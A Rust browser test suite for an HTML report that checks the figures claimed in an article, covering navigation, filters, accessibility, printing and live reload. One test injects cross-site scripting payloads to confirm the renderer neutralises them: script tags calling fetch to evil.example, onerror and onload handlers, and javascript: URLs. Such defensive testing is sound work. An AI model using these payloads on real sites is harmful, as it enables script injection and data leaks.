//! The HTML report in a browser: what is clicked, pressed and read, and that nothing leaves the
//! page. Where there is no Chromium these tests say so and pass.

#![cfg(unix)] // the browser is reached through a shell's pipes

mod browser;

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::mpsc::{self, Sender};
use std::thread;

use addsup::check::{self, Report};
use addsup::claim::ClaimSet;
use addsup::report::{self, Format, Options};
use addsup::source::Sources;
use browser::Browser;
use serde_json::json;

const ARTICLE: &str = "\
# The harvest

Farmers grew about **9 tonnes** of grain in 2021 and 12 tonnes in 2022, a third more.
They sold 5 tonnes, which is 20% of it.
Half of the land, 40 hectares, lay fallow, and 8,200 birds came.

| year | tonnes |
| ---- | -----: |
| 2021 |      9 |
";

const CLAIMS: &str = "\
inputs:
  grown_2021: { stated: about 9 tonnes, quote: about 9 tonnes of grain in 2021 }
  grown_2022: { stated: 12 tonnes, quote: 12 tonnes in 2022, source: { title: The mill's book, url: \"https://mill.example/book\" } }
  land: { unknown: hectares }
claims:
  rise:
    quote: a third more
    stated: a third
    formula: growth(grown_2021, grown_2022)
  sold_share:
    quote: They sold 5 tonnes, which is 20% of it
    stated: 20%
    inputs: { sold: { stated: 5 tonnes, quote: 5 tonnes } }
    formula: share(sold, grown_2022)
  fallow:
    quote: Half of the land, 40 hectares
    stated: half
    inputs: { fallow_land: 40 hectares }
    formula: fallow_land / land
";

/// The check of one folder.
fn checked(article: &str, claims: &str) -> (Sources, Report) {
    let mut sources = Sources::default();
    let article = Some(("article.md", article));
    let set = ClaimSet::from_texts(
        &mut sources,
        "claims/farm",
        article,
        &[("grain.yaml", claims)],
    );
    let report = check::check(&sources, &set, &check::Options::default());
    (sources, report)
}

fn page(article: &str, claims: &str) -> String {
    let (sources, report) = checked(article, claims);
    report::render(&report, &sources, Format::Html, &Options::default())
}

const ANCHOR: &str = "claims/farm/grain.yaml:";

/// The claims in view.
const SHOWN: &str = "[...document.querySelectorAll('.claim:not(.figure)')].filter((it) => it.checkVisibility()).map((it) => it.querySelector('.id').textContent).join()";

#[test]
fn a_chosen_figure_shows_its_claim() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    let url = browser.open(&page(ARTICLE, CLAIMS));
    let link = format!("a.m[href=\"#{ANCHOR}sold_share\"]:not(.input)");
    browser.click(&link);
    let panel = browser.text("document.getElementById('panel').innerText");
    for part in [
        "inconsistent",
        "sold_share",
        "They sold 5 tonnes, which is 20% of it",
        "share(5 tonnes, 12 tonnes)",
        "off by",
        "would have to be",
        "The mill's book",
        "grain.yaml:10:3",
    ] {
        assert!(panel.contains(part), "{part}\n{panel}");
    }
    assert!(
        browser
            .is("document.querySelector('#panel svg.picture').getBoundingClientRect().height > 50")
    );
    assert_eq!(browser.text("document.activeElement.id"), "panel-title");
    assert_eq!(
        browser.text("location.hash"),
        format!("#{ANCHOR}sold_share")
    );
    assert!(browser.is("document.querySelectorAll('.m.chosen[aria-current]').length > 0"));

    // The figure within the sentence is the claim's own, and leads to it too; the other input has
    // its card.
    browser.click("a.m.input");
    assert!(
        browser
            .text("document.getElementById('panel').innerText")
            .contains("Used by")
    );
    browser.click("#panel a.to");
    assert_eq!(
        browser.text("document.querySelector('#panel-title .id').textContent"),
        "rise"
    );

    browser.press("Escape");
    assert!(browser.is("!document.documentElement.classList.contains('has-chosen')"));
    assert_eq!(browser.text("location.hash"), "");
    browser.assert_quiet(&url);
}

#[test]
fn claims_are_stepped_through_and_unfolded() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    let url = browser.open(&page(ARTICLE, CLAIMS));
    let title = "document.querySelector('#panel-title .id').textContent";
    for id in ["rise", "sold_share", "fallow", "rise"] {
        browser.click("#next");
        assert_eq!(browser.text(title), id);
    }
    browser.click("#previous");
    assert_eq!(browser.text(title), "fallow");

    let row = format!("document.getElementById('{ANCHOR}rise')");
    assert!(browser.is(&format!("!{row}.querySelector('.card')")));
    browser.click(&format!("[id=\"{ANCHOR}rise\"] > summary"));
    browser.until(&format!(
        "{row}.querySelector('.card')?.checkVisibility() === true"
    ));
    assert!(browser.is(&format!(
        "{row}.innerText.includes('growth(about 9 tonnes, 12 tonnes)')"
    )));

    browser.value(&format!("location.hash = '{ANCHOR}sold_share'"));
    browser.until(&format!("{title} === 'sold_share'"));
    browser.go("about:blank");
    browser.go(&format!("{url}#{ANCHOR}sold_share"));
    browser.until(&format!("{title} === 'sold_share'"));
    browser.assert_quiet(&url);
}

#[test]
fn filters_show_what_they_say() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    let url = browser.open(&page(ARTICLE, CLAIMS));
    assert_eq!(browser.text(SHOWN), "rise,sold_share,fallow");
    let marked = "[...document.querySelectorAll('a.m:not(.input)')].filter((it) => getComputedStyle(it).textDecorationColor !== 'rgba(0, 0, 0, 0)').map((it) => it.textContent).join()";
    browser.click("label[for=show-inconsistent]");
    assert_eq!(browser.text(SHOWN), "sold_share");
    assert!(browser.text(marked).contains("20% of it"));
    assert!(!browser.text(marked).contains("a third"));
    assert_eq!(
        browser.text("document.getElementById('status').textContent"),
        "1 shown"
    );
    browser.click("label[for=show-undetermined]");
    assert_eq!(browser.text(SHOWN), "fallow");
    browser.click("label[for=show-attention]");
    assert_eq!(browser.text(SHOWN), "sold_share,fallow");
    browser.click("label[for=show-consistent]");
    assert_eq!(browser.text(SHOWN), "rise");
    // Next stays with what is shown.
    browser.click("#next");
    browser.click("#next");
    assert_eq!(
        browser.text("document.querySelector('#panel-title .id').textContent"),
        "rise"
    );
    browser.click("label[for=show-all]");
    assert_eq!(browser.text(SHOWN), "rise,sold_share,fallow");
    browser.assert_quiet(&url);
}

#[test]
fn the_keyboard_is_enough() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    let url = browser.open(&page(ARTICLE, CLAIMS));
    let focused = "document.activeElement.className + ' ' + document.activeElement.id";
    browser.press("Tab");
    assert!(browser.text(focused).contains("skip"));
    assert!(browser.is("document.querySelector('.skip').getBoundingClientRect().left >= 0"));
    let mut passed = Vec::new();
    while !browser.is("document.activeElement.matches('input[name=show]')") {
        browser.press("Tab");
        passed.push(browser.text(focused));
        assert!(passed.len() < 30, "{passed:?}");
    }
    assert!(
        browser.is(
            "getComputedStyle(document.activeElement.nextElementSibling).outlineStyle !== 'none'"
        )
    );
    browser.press("ArrowRight");
    assert_eq!(browser.text(SHOWN), "sold_share,fallow");
    browser.press("ArrowLeft");
    assert_eq!(browser.text(SHOWN), "rise,sold_share,fallow");

    while !browser.is("document.activeElement.matches('a.m.input')") {
        browser.press("Tab");
        passed.push(browser.text(focused));
        assert!(passed.len() < 60, "{passed:?}");
    }
    assert!(browser.is("getComputedStyle(document.activeElement).outlineStyle !== 'none'"));
    browser.press("Enter");
    assert_eq!(browser.text("document.activeElement.id"), "panel-title");
    assert!(
        browser
            .text("document.activeElement.textContent")
            .contains("grown_2021")
    );
    browser.press("Tab");
    assert!(browser.is("document.getElementById('panel').contains(document.activeElement)"));
    browser.press("Escape");
    assert!(browser.is("document.activeElement.matches('a.m.input')"));
    browser.assert_quiet(&url);
}

/// Where there are many claims, what is out of view is passed over, and filters still say the
/// truth.
#[test]
fn many_claims_are_filtered_and_reached() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    // Every claim of the first hundred holds, and one in ten of the others does not.
    let sold = |n: usize| n % 8 + usize::from(n >= 100 && n.is_multiple_of(10));
    let article: String = (0..400)
        .map(|n| format!("In village {n} they sold {} sheep.\n\n", sold(n)))
        .collect();
    let claims: String = (0..400)
        .map(|n| {
            let quote = format!("In village {n} they sold {} sheep", sold(n));
            let formula = format!("8 - {}", 8 - n % 8);
            format!(
                "  v{n}: {{ quote: {quote}, stated: {}, formula: {formula} }}\n",
                sold(n)
            )
        })
        .collect();
    let url = browser.open(&page(&article, &format!("claims:\n{claims}")));
    assert_eq!(
        browser.value("document.querySelectorAll('.fault').length"),
        0
    );
    let number = format!("({SHOWN}).split(',').length");
    assert_eq!(browser.value(&number), 400);
    browser.click("label[for=show-inconsistent]");
    assert_eq!(browser.value(&number), 30);
    assert!(browser.is("document.querySelectorAll('.claims').length === 8"));
    let groups =
        "[...document.querySelectorAll('.claims')].filter((it) => it.checkVisibility()).length";
    assert_eq!(browser.value(groups), 6);
    browser.click("#next");
    browser.click("#previous");
    assert_eq!(
        browser.text("document.querySelector('#panel-title .id').textContent"),
        "v390"
    );
    // Its passage has come into view from far away.
    browser.until(
        "(() => { const box = document.querySelector('.m.chosen').getBoundingClientRect(); \
         return box.top >= 0 && box.bottom <= innerHeight; })()",
    );
    browser.assert_quiet(&url);
}

/// What assistive technology is told.
#[test]
fn everything_has_a_name_and_a_role() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    let url = browser.open(&page(ARTICLE, CLAIMS));
    let tree = browser.call("Accessibility.getFullAXTree", json!({}));
    let nodes = tree["nodes"].as_array().expect("a tree");
    let named: Vec<(String, String)> = nodes
        .iter()
        .filter(|node| node["ignored"] == false)
        .map(|node| {
            let text = |what: &str| node[what]["value"].as_str().unwrap_or_default().to_owned();
            (text("role"), text("name"))
        })
        .collect();
    for role in [
        "link",
        "button",
        "radio",
        "heading",
        "navigation",
        "complementary",
        "DisclosureTriangle",
    ] {
        let of_role: Vec<_> = named.iter().filter(|(it, _)| it == role).collect();
        assert!(!of_role.is_empty(), "no {role}: {named:?}");
        let nameless = of_role
            .iter()
            .filter(|(_, name)| name.trim().is_empty())
            .count();
        assert_eq!(nameless, 0, "{role}: {of_role:?}");
    }
    let has = |role: &str, part: &str| {
        named
            .iter()
            .any(|(it, name)| it == role && name.contains(part))
    };
    assert!(
        has("link", "inconsistent: "),
        "a mark says its verdict: {named:?}"
    );
    assert!(has("radio", "inconsistent 1"), "{named:?}");
    browser.assert_quiet(&url);
}

#[test]
fn it_fits_narrow_pages_and_both_colour_schemes() {
    for (width, height) in [(320, 640), (390, 844), (1366, 900)] {
        let Some(mut browser) = Browser::start(width, height) else {
            return;
        };
        let url = browser.open(&page(ARTICLE, CLAIMS));
        browser.click("a.m.inconsistent:not(.input)");
        let over = browser
            .value("document.documentElement.scrollWidth - document.documentElement.clientWidth");
        assert_eq!(over, 0, "at {width}");
        // What was chosen is still seen beside or above the panel.
        let clear = "(() => { const mark = document.querySelector('.m.chosen').getBoundingClientRect(); \
                     const panel = document.getElementById('panel').getBoundingClientRect(); \
                     return mark.top >= 0 && (mark.bottom <= panel.top || mark.right <= panel.left); })()";
        assert!(browser.is(clear), "at {width}");
        let mut grounds = Vec::new();
        for scheme in ["light", "dark"] {
            let features =
                json!({ "features": [{ "name": "prefers-color-scheme", "value": scheme }] });
            browser.call("Emulation.setEmulatedMedia", features);
            grounds.push(browser.text("getComputedStyle(document.body).backgroundColor"));
        }
        assert_ne!(grounds[0], grounds[1]);
        browser.assert_quiet(&url);
    }
}

#[test]
fn it_prints_every_card_and_no_controls() {
    let Some(mut browser) = Browser::start(794, 1123) else {
        return;
    };
    let url = browser.open(&page(ARTICLE, CLAIMS));
    browser.call("Emulation.setEmulatedMedia", json!({ "media": "print" }));
    browser.value("window.dispatchEvent(new Event('beforeprint'))");
    let cards = "[...document.querySelectorAll('.claim:not(.figure) > .card')].filter((it) => it.checkVisibility()).length";
    assert_eq!(browser.value(cards), 3);
    assert!(browser.is("!document.querySelector('.filters').checkVisibility() && !document.getElementById('panel').checkVisibility()"));
    browser.value("window.dispatchEvent(new Event('afterprint'))");
    assert_eq!(
        browser.value("document.querySelectorAll('.claim[open]').length"),
        0
    );
    browser.assert_quiet(&url);
}

#[test]
fn without_scripts_everything_is_there() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    browser.call(
        "Emulation.setScriptExecutionDisabled",
        json!({ "value": true }),
    );
    let url = browser.open(&page(ARTICLE, CLAIMS));
    assert!(browser.is("!document.documentElement.classList.contains('js')"));
    assert!(browser.is("!document.getElementById('panel').checkVisibility()"));
    browser.click(&format!("[id=\"{ANCHOR}rise\"] > summary"));
    browser.until("document.querySelector('.claim[open] .card')?.checkVisibility() === true");
    browser.click("label[for=show-inconsistent]");
    assert_eq!(browser.text(SHOWN), "sold_share");
    browser.click("a.m.inconsistent:not(.input)");
    assert_eq!(
        browser.text("location.hash"),
        format!("#{ANCHOR}sold_share")
    );
    assert!(browser.is("document.querySelector(':target .card').getClientRects().length > 0"));
    browser.assert_quiet(&url);
}

#[test]
fn a_hostile_folder_can_do_nothing() {
    let Some(mut browser) = Browser::start(1366, 900) else {
        return;
    };
    let evil = "</title></style></script></noscript><script>document.title='owned';fetch('http://evil.example/')</script>\
                <img src=http://evil.example/x onerror=alert(1)><svg onload=alert(1)>";
    let quoted = evil.replace('\'', "''");
    let article = format!(
        "# {evil}\n\n{evil}\n\nWe grew 9 tonnes <b onclick=alert(1)>here</b>, `{evil}` [x](javascript:alert(1)) ![y](http://evil.example/y.png)\n\n\
         <script>alert(1)</script>\n\n<style>body{{display:none}}</style>\n\n&lt;script&gt;alert(1)&lt;/script&gt; and \u{202e}more\n"
    );
    let claims = format!(
        "inputs:\n  grown: {{ stated: 9 tonnes, quote: We grew 9 tonnes, note: '{quoted}', source: {{ title: '{quoted}', url: 'javascript:alert(1)' }} }}\n\
         claims:\n  it:\n    stated: 7 tonnes\n    readings: {{ '{quoted}': grown }}\n    note: '{quoted}'\n    expect: inconsistent\n    because: '{quoted}'\n  \
         other:\n    stated: 7 tonnes\n    formula: grown\n    note: '{quoted} \u{202e}'\n  '{quoted}': {{ stated: 5, formula: 5 }}\n  bad: {{ stated: 5, formula: '{quoted}' }}\n"
    );
    let url = browser.open(&page(&article, &claims));
    assert!(browser.is("document.querySelectorAll('.fault').length > 0"));
    // Every card is parsed.
    for id in ["grown", "other"] {
        let row = format!("document.getElementById('{ANCHOR}{id}')");
        browser.value(&format!(
            "{row}.closest('details.inputs')?.setAttribute('open', '')"
        ));
        browser.click(&format!("[id=\"{ANCHOR}{id}\"] > summary"));
        browser.until(&format!("{row}.querySelector('.card') !== null"));
        let row = browser.text(&format!("{row}.innerText"));
        assert!(
            row.contains("onerror=alert(1)"),
            "it is shown as it is: {row}"
        );
    }
    browser.click("a.m");
    assert!(browser.is("document.title.endsWith('addsup')"));
    assert!(browser.is("document.querySelectorAll('img, script:not(head script), [onload], [onclick]').length === 0"));
    browser.assert_quiet(&url);
}

/// Serves pages to one browser: `/` the newest, `/events` a message for each new one.
fn serve(first: String) -> (String, Sender<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = format!("http://{}/", listener.local_addr().expect("it is bound"));
    let (send, pages) = mpsc::channel::<String>();
    thread::spawn(move || {
        let mut page = first;
        let mut events: Vec<TcpStream> = Vec::new();
        listener.set_nonblocking(true).expect("it can be asked");
        loop {
            // A new page waits until somebody listens.
            let next = if events.is_empty() {
                Err(mpsc::TryRecvError::Empty)
            } else {
                pages.try_recv()
            };
            match next {
                Ok(next) => {
                    page = next;
                    events.retain_mut(|stream| stream.write_all(b"data: changed\n\n").is_ok());
                }
                Err(mpsc::TryRecvError::Disconnected) => return,
                Err(mpsc::TryRecvError::Empty) => {}
            }
            let Ok((mut stream, _)) = listener.accept() else {
                thread::sleep(std::time::Duration::from_millis(5));
                continue;
            };
            stream.set_nonblocking(false).expect("it can be asked");
            // Browsers open connections in advance, and may never ask for anything on them.
            let patience = Some(std::time::Duration::from_millis(300));
            stream.set_read_timeout(patience).expect("it can be asked");
            let mut lines = BufReader::new(&stream).lines().map_while(Result::ok);
            let Some(request) = lines.next() else {
                continue;
            };
            for _ in lines.by_ref().take_while(|line| !line.is_empty()) {}
            let answer = if request.starts_with("GET /events ") {
                "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n".to_owned()
            } else if request.starts_with("GET / ") {
                let length = page.len();
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{page}"
                )
            } else {
                "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    .to_owned()
            };
            if stream.write_all(answer.as_bytes()).is_ok() && request.starts_with("GET /events ") {
                events.push(stream);
            }
        }
    });
    (address, send)
}

#[test]
fn a_served_page_follows_its_report_and_keeps_its_place() {
    let Some(mut browser) = Browser::start(1366, 500) else {
        return;
    };
    let live = |article: &str, claims: &str| {
        let (sources, report) = checked(article, claims);
        report::live_page(&report, &sources)
    };
    let (address, pages) = serve(live(ARTICLE, CLAIMS));
    browser.go(&address);
    browser.click("label[for=show-attention]");
    browser.click("a.m.inconsistent:not(.input)");
    browser.click(&format!("[id=\"{ANCHOR}fallow\"] > summary"));
    browser.until("document.querySelector('.claim[open] .card') !== null");
    let row = format!("document.getElementById('{ANCHOR}fallow').getBoundingClientRect().top");
    let before = browser.value(&row).as_f64().expect("a number");

    // A paragraph more above, and the share is mended.
    let longer = ARTICLE.replace(
        "Farmers",
        &format!("{}\n\nFarmers", "It was a year of rain. ".repeat(40)),
    );
    let longer = longer.replace("20% of it", "about 40% of it");
    let mended = CLAIMS.replace("20%", "about 40%");
    pages.send(live(&longer, &mended)).expect("it is served");
    browser.until("document.getElementById('status').textContent.startsWith('updated')");
    assert!(browser.is("document.body.textContent.includes('a year of rain')"));
    assert_eq!(browser.text(SHOWN), "fallow");
    assert!(browser.is("document.getElementById('show-attention').checked"));
    assert_eq!(
        browser.text("document.querySelector('#panel-title .id').textContent"),
        "sold_share"
    );
    assert!(
        browser
            .text("document.getElementById('panel').innerText")
            .contains("about 40%")
    );
    assert!(browser.is("document.querySelector('.claim[open] .card')?.checkVisibility() === true"));
    let after = browser.value(&row).as_f64().expect("a number");
    assert!((before - after).abs() < 2.0, "{before} became {after}");
    browser.assert_quiet(&address);
}
